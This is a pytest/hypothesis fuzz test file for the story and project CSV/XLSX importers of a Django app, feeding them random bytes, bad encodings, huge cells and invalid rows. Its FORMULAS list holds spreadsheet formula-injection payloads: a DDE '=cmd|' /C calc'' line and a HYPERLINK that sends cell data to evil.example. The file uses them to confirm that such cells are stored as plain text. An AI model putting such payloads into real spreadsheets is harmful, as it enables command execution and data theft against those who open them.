"""Issue #8: the stories and projects importers under hostile files (hypothesis).

Whatever the bytes (random, wrong encodings, huge cells, formulas, broken XLSX), the public entry points
``import_stories`` and ``import_projects`` either raise their documented ``FileError`` (the file as a whole is
unreadable, with a message in the user's language) or return a result whose errors name the rows. All-or-nothing
mode writes nothing when any row is bad; skip-invalid mode writes exactly the good rows.

(tuksuk/cases/tests/test_importer.py already fuzzes random text cells of a stories CSV; these extend that to raw
bytes, encodings, XLSX, sizes, formulas and the row-count arithmetic of both modes, and to the projects importer.)
"""

from __future__ import annotations

import contextlib
import io
import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

from tuksuk.cases.importer import COLUMNS, import_stories
from tuksuk.cases.models import Story
from tuksuk.core.tabular import FileError
from tuksuk.core.testing import make_user
from tuksuk.households.models import Household
from tuksuk.projects.importer import import_projects
from tuksuk.projects.models import Activity, Project

from .conftest import fuzz_settings

pytestmark = [pytest.mark.django_db, pytest.mark.fuzz]

STORY_HEADER = "story_ref,reported_on,house_code,village_code,head_name,category,description"
PROJECT_HEADER = "project_ref,district_code,title,category,fiscal_year"
ACTIVITY_HEADER = "activity_ref,project_ref,title,budget_baht"
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1,"คลิก")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "=1+1",
    "\t=1+1",
]
# Cells that surely make a story row invalid, whatever the rest of the row says.
BAD_STORY_CELLS = {
    "reported_on": ["31/02/2565", "yesterday", "2022-13-01"],
    "house_code": ["12", "abcdefghijk", "7008012345x"],
    "village_code": ["7008", "99999999", "ห้าหก"],
    "category": ["0", "99", "ไม่มีหมวดนี้"],
    "head_name": [""],
}
BAD_PROJECT_CELLS = {
    "district_code": ["9005", "57", "xx"],
    "category": ["0", "42"],
    "fiscal_year": ["2021", "ปีหน้า", "1"],
    "title": [""],
}


@pytest.fixture(scope="module")
def pakthor(django_db_setup, django_db_blocker):  # type: ignore[no-untyped-def]
    """District team of อำเภอปากท่อ (7008), whose villages the stories rows use (created once per module)."""
    with django_db_blocker.unblock():
        user = make_user("district_team", "7008")
    yield user
    with django_db_blocker.unblock():
        user.delete()


@pytest.fixture(scope="module")
def chiangkhong(django_db_setup, django_db_blocker):  # type: ignore[no-untyped-def]
    with django_db_blocker.unblock():
        user = make_user("district_team", "5703")
    yield user
    with django_db_blocker.unblock():
        user.delete()


SERIAL = itertools.count(1)  # each generated row gets refs and house codes no earlier example used


def stories(data: bytes, name: str, actor, **kwargs):  # type: ignore[no-untyped-def]
    return import_stories(io.BytesIO(data), name, actor=actor, **kwargs)


def projects(p: bytes | None, a: bytes | None, actor, **kwargs):  # type: ignore[no-untyped-def]
    return import_projects(
        None if p is None else io.BytesIO(p),
        "projects.csv",
        None if a is None else io.BytesIO(a),
        "activities.csv",
        actor=actor,
        **kwargs,
    )


def written() -> tuple[int, int, int, int]:
    return Story.objects.count(), Household.objects.count(), Project.objects.count(), Activity.objects.count()


def csv_bytes(header: str, rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    import csv

    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header.split(","))
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def story_row(i: int, **cells: str) -> list[str]:
    values = {
        "story_ref": f"FZ-{i:04d}",
        "reported_on": "2022-08-15",
        "house_code": f"7008012{i:04d}",
        "village_code": "70080501",
        "head_name": f"นางทดสอบ {i}",
        "category": "1",
        "description": "หลังคารั่ว",
    }
    values.update(cells)
    return [values[c] for c in STORY_HEADER.split(",")]


def project_row(i: int, **cells: str) -> list[str]:
    values = {
        "project_ref": f"FZ-P{i:03d}",
        "district_code": "5703",
        "title": f"โครงการทดสอบ {i}",
        "category": "1",
        "fiscal_year": "2565",
    }
    values.update(cells)
    return [values[c] for c in PROJECT_HEADER.split(",")]


def says_why(exc: FileError) -> None:
    assert str(exc).strip(), "a FileError must tell the user what is wrong"


def assert_accounted(result) -> None:  # type: ignore[no-untyped-def]
    """Nothing silently dropped: rows read = created + updated + unchanged + rejected."""
    assert result.read == result.created + result.updated + result.unchanged + result.rejected
    for error in result.errors:
        assert error.message
        assert str(error)


# ---------------------------------------------------------------- whole files that are not what they claim


@fuzz_settings()
@given(data=st.binary(max_size=4096), name=st.sampled_from(["stories.csv", "stories.xlsx", "STORIES.XLSX", "x"]))
def test_random_bytes_are_a_file_error_or_a_clean_refusal(pakthor, data, name):
    before = written()
    try:
        result = stories(data, name, pakthor)
    except FileError as exc:
        says_why(exc)
    else:
        assert_accounted(result)
        assert result.created == 0  # random bytes never make a valid story
    assert written() == before


@fuzz_settings()
@given(
    prefix=st.sampled_from([b"PK\x03\x04", b"PK", b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\x00"]),
    rest=st.binary(max_size=2048),
)
def test_files_that_look_like_zip_or_unicode_but_are_not(pakthor, prefix, rest):
    before = written()
    with contextlib.suppress(FileError):
        stories(prefix + rest, "stories.csv", pakthor)
    assert written() == before


@pytest.mark.parametrize(
    "encoding",
    [
        "tis-620",
        "cp874",
        "utf-16",
        pytest.param(
            "utf-16-le",
            marks=pytest.mark.xfail(
                strict=True,
                reason="UTF-16 without a BOM is valid UTF-8 full of NULs: core/tabular.py reports 'unknown columns "
                "s\\x00t\\x00…' instead of the encoding message (reported to the lead)",
            ),
        ),
        "utf-32",
    ],
)
def test_thai_in_a_legacy_or_wide_encoding_is_refused_with_a_thai_message(pakthor, encoding):
    data = csv_bytes(STORY_HEADER, [story_row(1), story_row(2)], encoding=encoding)
    before = written()
    with pytest.raises(FileError, match="UTF-8"):
        stories(data, "stories.csv", pakthor)
    assert written() == before


def test_utf8_with_bom_and_crlf_is_read(pakthor):
    data = "\ufeff".encode() + csv_bytes(STORY_HEADER, [story_row(1), story_row(2)])
    result = stories(data, "stories.csv", pakthor)
    assert (result.created, result.rejected) == (2, 0)


@pytest.mark.parametrize("size", [5_001, 200_000, 2_000_000])
def test_huge_cells_never_crash(pakthor, size):
    before = written()
    data = csv_bytes(STORY_HEADER, [story_row(1, description="ก" * size), story_row(2, head_name="x" * size)])
    try:
        result = stories(data, "stories.csv", pakthor)
    except FileError as exc:
        says_why(exc)
        assert written() == before
    else:
        assert_accounted(result)


def test_a_very_wide_header_is_refused(pakthor):
    header = STORY_HEADER + "," + ",".join(f"extra{i}" for i in range(5000))
    with pytest.raises(FileError):
        stories(csv_bytes(header, []), "stories.csv", pakthor)


def test_many_empty_rows_and_ragged_rows(pakthor):
    text = STORY_HEADER + "\r\n" + ",,,\r\n" * 5000 + ",".join(story_row(1)) + ",too,many,cells\r\nFZ-2\r\n"
    result = stories(text.encode(), "stories.csv", pakthor)
    assert_accounted(result)
    assert result.created == 0
    assert result.errors


@fuzz_settings()
@given(
    cells=st.lists(
        st.lists(
            st.one_of(
                st.none(),
                st.text(max_size=30),
                st.integers(min_value=-(10**15), max_value=10**15),
                st.floats(allow_nan=True, allow_infinity=False),
                st.booleans(),
                st.dates(),
                st.sampled_from(FORMULAS),
            ),
            min_size=7,
            max_size=9,
        ),
        max_size=6,
    )
)
def test_any_xlsx_cells_give_errors_never_a_crash_or_partial_write(pakthor, cells):
    from openpyxl.utils.exceptions import IllegalCharacterError

    rows: list[list[object]] = [STORY_HEADER.split(","), *cells]
    try:
        data = xlsx_bytes(rows)
    except (IllegalCharacterError, ValueError):
        return  # openpyxl itself refuses to write such a cell: no file to import
    before = written()
    try:
        result = stories(data, "stories.xlsx", pakthor)
    except FileError:
        assert written() == before
        return
    assert_accounted(result)
    if result.rejected:
        assert written() == before


# ---------------------------------------------------------------- formulas


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_cells_are_plain_text(pakthor, formula):
    """A cell like ``=cmd|…`` is never evaluated: the row is imported with the text as written, or refused."""
    serial = next(SERIAL)
    data = csv_bytes(STORY_HEADER, [story_row(serial, head_name=formula, description=formula)])
    result = stories(data, "stories.csv", pakthor)
    assert_accounted(result)
    if result.created:
        story = Story.objects.get(ref=f"FZ-{serial:04d}")
        assert story.description == formula.strip()


# ---------------------------------------------------------------- mixed good and bad rows

bad_story_cell = st.sampled_from(sorted(BAD_STORY_CELLS)).flatmap(
    lambda column: st.tuples(st.just(column), st.sampled_from(BAD_STORY_CELLS[column]))
)


@fuzz_settings()
@given(plan=st.lists(st.one_of(st.none(), bad_story_cell), min_size=1, max_size=8), skip=st.booleans())
def test_mixed_story_rows_all_or_nothing_or_exactly_the_good_ones(pakthor, plan, skip):
    serials = [next(SERIAL) for _ in plan]
    rows = [
        story_row(i) if bad is None else story_row(i, **{bad[0]: bad[1]}) for i, bad in zip(serials, plan, strict=False)
    ]
    good = sum(1 for bad in plan if bad is None)
    stories_before = Story.objects.count()
    result = stories(csv_bytes(STORY_HEADER, rows), "stories.csv", pakthor, skip_invalid=skip)
    assert_accounted(result)
    assert result.read == len(plan)
    if skip:
        assert (result.created, result.rejected) == (good, len(plan) - good)
        assert Story.objects.count() == stories_before + good
        assert {e.row for e in result.errors} == {n for n, bad in enumerate(plan, 2) if bad is not None}
    elif good < len(plan):
        assert (result.created, result.rejected) == (0, len(plan))
        assert Story.objects.count() == stories_before
    else:
        assert result.created == len(plan)


bad_project_cell = st.sampled_from(sorted(BAD_PROJECT_CELLS)).flatmap(
    lambda column: st.tuples(st.just(column), st.sampled_from(BAD_PROJECT_CELLS[column]))
)


@fuzz_settings()
@given(plan=st.lists(st.one_of(st.none(), bad_project_cell), min_size=1, max_size=6), skip=st.booleans())
def test_mixed_project_rows_all_or_nothing_or_exactly_the_good_ones(chiangkhong, plan, skip):
    serials = [next(SERIAL) for _ in plan]
    rows = [
        project_row(i) if bad is None else project_row(i, **{bad[0]: bad[1]})
        for i, bad in zip(serials, plan, strict=False)
    ]
    activities = [[f"FZ-A{i}", f"FZ-P{i:03d}", "กิจกรรม", "1000"] for i in serials]
    good = sum(1 for bad in plan if bad is None)
    before = (Project.objects.count(), Activity.objects.count())
    result = projects(
        csv_bytes(PROJECT_HEADER, rows), csv_bytes(ACTIVITY_HEADER, activities), chiangkhong, skip_invalid=skip
    )
    for file_result in result.files:
        assert_accounted(file_result)
    if skip:
        # An activity of a refused project is refused too (it says why): exactly the good pairs are written.
        assert (result.projects.created, result.activities.created) == (good, good)
        assert (Project.objects.count(), Activity.objects.count()) == (before[0] + good, before[1] + good)
    elif good < len(plan):
        assert (result.projects.created, result.activities.created) == (0, 0)
        assert (Project.objects.count(), Activity.objects.count()) == before


@fuzz_settings()
@given(
    p=st.one_of(st.none(), st.binary(max_size=1024)),
    a=st.one_of(st.none(), st.binary(max_size=1024)),
)
def test_projects_importer_random_bytes(chiangkhong, p, a):
    before = written()
    try:
        result = projects(p, a, chiangkhong)
    except FileError as exc:
        says_why(exc)
    else:
        for file_result in result.files:
            assert_accounted(file_result)
    assert written() == before


@fuzz_settings()
@given(
    cells=st.lists(
        st.lists(
            st.one_of(st.text(max_size=20), st.sampled_from([*FORMULAS, "1e400", "-0", "๑,๐๐๐.๕๐", "NaN"])),
            min_size=4,
            max_size=4,
        ),
        max_size=5,
    ),
    skip=st.booleans(),
)
def test_projects_importer_garbage_activity_cells(chiangkhong, cells, skip):
    before = written()
    serial = next(SERIAL)
    cells = [[f"FZ-A{serial}-{n}", f"FZ-P{serial:03d}", *row[2:]] if n % 2 else row for n, row in enumerate(cells)]
    result = projects(
        csv_bytes(PROJECT_HEADER, [project_row(serial)]),
        csv_bytes(ACTIVITY_HEADER, cells),
        chiangkhong,
        skip_invalid=skip,
    )
    for file_result in result.files:
        assert_accounted(file_result)
    if result.rejected and not skip:
        assert written() == before


def test_columns_match_the_format():
    assert set(STORY_HEADER.split(",")) <= set(COLUMNS)
